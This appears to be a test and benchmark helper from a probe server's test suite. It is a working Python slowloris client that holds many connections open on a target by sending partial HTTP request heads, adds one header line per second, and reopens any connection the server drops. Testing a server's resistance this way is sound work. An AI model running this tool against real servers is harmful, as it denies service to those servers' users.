"""A slowloris client, run as a user of its own (setpriv) by the probe server's tests and
its bench: ``COUNT`` connections to ``HOST:PORT`` from ``SOURCE``, each sending the start
of a request head for ``PATH`` and then one more header line a second, never the blank
line that ends it; one the server drops is opened again at once. It says ``holding N``
(on stdout, once) when N connections have been opened, and ends after ``SECONDS``,
``MAX_OPENS`` connections in all, or a SIGTERM, whichever comes first, saying ``opened N``
(how many connections it made in all).

    python slowloris.py HOST PORT PATH COUNT SECONDS SOURCE
"""

from __future__ import annotations

import selectors
import signal
import socket
import sys
import time

MAX_OPENS = 2_000_000
TRICKLE = 1.0  # seconds between header lines on each connection


def main(host: str, port: int, path: str, count: int, seconds: float, source: str) -> None:
    head = f"GET {path} HTTP/1.1\r\nHost: {host}\r\n".encode()
    selector = selectors.DefaultSelector()
    opened = 0
    said = False
    end = time.monotonic() + seconds

    def stop(*_: object) -> None:
        nonlocal end
        end = 0.0

    signal.signal(signal.SIGTERM, stop)

    def connect() -> None:
        nonlocal opened
        sock = socket.socket()
        sock.setblocking(False)
        try:
            sock.bind((source, 0))
            sock.connect_ex((host, port))
        except OSError:
            sock.close()
            return
        opened += 1
        selector.register(sock, selectors.EVENT_WRITE, None)

    def drop(sock: socket.socket) -> None:
        selector.unregister(sock)
        sock.close()

    for _ in range(count):
        connect()
    trickled = time.monotonic()
    while time.monotonic() < end and opened < MAX_OPENS:
        for key, events in selector.select(0.1):
            sock = key.fileobj
            assert isinstance(sock, socket.socket)
            try:
                if key.data is None and events & selectors.EVENT_WRITE:  # connected
                    if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                        raise OSError("not connected")
                    sock.send(head)
                    selector.modify(sock, selectors.EVENT_READ, "sent")
                    continue
                if sock.recv(4096):
                    continue  # an answer: this server is not ours to read
            except OSError:
                pass
            drop(sock)  # dropped by the server: open another at once
            connect()
        if not said and opened >= count:
            said = True
            print(f"holding {opened}", flush=True)
        if time.monotonic() - trickled >= TRICKLE:
            trickled = time.monotonic()
            for key in list(selector.get_map().values()):
                sock = key.fileobj
                assert isinstance(sock, socket.socket)
                if key.data == "sent":
                    try:
                        sock.send(b"X-Slow: 1\r\n")
                    except OSError:
                        drop(sock)
                        connect()
        while len(selector.get_map()) < count and opened < MAX_OPENS:
            before = opened
            connect()
            if opened == before:
                break  # the system refuses for now (out of ports or files): later
    print(f"opened {opened}", flush=True)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5]),
         sys.argv[6])
